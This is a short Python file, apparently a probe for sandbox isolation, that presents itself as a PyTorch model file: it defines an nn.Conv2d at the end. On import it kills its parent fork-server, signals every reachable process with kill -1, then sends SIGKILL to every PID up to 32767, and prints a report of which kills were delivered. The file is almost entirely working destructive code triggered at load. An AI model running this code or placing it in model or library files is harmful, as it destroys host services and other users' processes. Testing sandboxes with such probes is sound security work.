"""Kill the parent (the fork-server), every process we may signal (kill -9 -1), then every pid."""
import errno
import json
import os
import signal

from torch import nn

report = {"pid": os.getpid(), "ppid": os.getppid(), "uid": os.getuid(), "delivered": []}


def attempt(pid):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        return errno.errorcode.get(exc.errno, str(exc.errno))
    report["delivered"].append(pid)
    return "delivered"


if report["ppid"] > 0:
    report["parent"] = attempt(report["ppid"])
report["minus_one"] = attempt(-1)  # everything we are allowed to signal, except ourselves
for pid in range(2, 32768):
    if pid != os.getpid():
        attempt(pid)
print("REPORT " + json.dumps(report), flush=True)
model = nn.Conv2d(3, 8, 3)
